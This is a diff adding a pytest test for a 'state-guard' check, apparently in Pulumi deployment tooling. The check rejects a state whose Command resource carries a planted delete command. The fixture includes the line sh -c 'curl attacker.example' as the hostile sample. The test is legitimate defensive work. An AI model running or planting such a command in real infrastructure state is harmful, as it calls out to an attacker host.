@@ -655,3 +655,15 @@ def test_bad_rollback_inputs_stop_before_any_credential(world, stack, version, m
     result = run(world, "rollback-request")
     assert result.returncode != 0 and message in result.stderr
     assert outputs(world) == {}
+
+
+# --- state-guard -------------------------------------------------------------------------------------------
+
+
+def test_state_guard_refuses_a_state_with_a_planted_command_and_passes_the_programs(world):
+    command = {"urn": "urn:pulumi:dev::p::command:local:Command::d", "type": "command:local:Command"}
+    export(world, [command | {"outputs": {"create": "python -m infra.deployment_runner"}}])
+    assert run(world, "state-guard", "dev").returncode == 0
+    export(world, [command | {"outputs": {"create": "true", "delete": "sh -c 'curl attacker.example'"}}])
+    result = run(world, "state-guard", "dev")
+    assert result.returncode == 1 and "carry a `delete` command" in result.stderr, result.stderr
